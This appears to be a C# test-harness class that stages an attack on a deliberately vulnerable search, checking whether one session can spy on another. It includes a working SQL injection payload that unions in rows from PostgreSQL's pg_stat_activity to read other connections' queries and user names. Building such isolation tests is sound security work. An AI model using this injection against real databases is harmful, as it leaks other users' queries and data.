namespace Workspace.BreakIn;

/// <summary>Watches the server while the victim uses the same buggy search, whose SQL holds the victim's words.</summary>
internal sealed record SpyingAttack : IAttack
{
    public string Name => "spy-on-sessions";

    public string Title => "Spy on other sessions";

    public string Tries => "Reads the SQL of the other connections from pg_stat_activity, just when the victim has pasted its own words into one.";

    public async Task<AttackAnswer> RunAsync(AttackTools tools, AttackStage stage, CancellationToken cancellationToken)
    {
        // The connection stays open: a session's last statement shows until the next one.
        await using var victims = await tools.Data.OpenConnectionAsync(cancellationToken);
        await tools.Scopes.RunAsync(
            stage.Victim.Id,
            ct => SqlProbe.RunAsync(victims, BadSearch.Statement(stage.VictimTitle.Replace("'", "''", StringComparison.Ordinal)), ct),
            cancellationToken);
        return AttackAnswer.Of([await tools.BadSearch.RunAsync(
            "%' UNION ALL SELECT usename::text, query FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND query <> '' --", cancellationToken)]);
    }
}
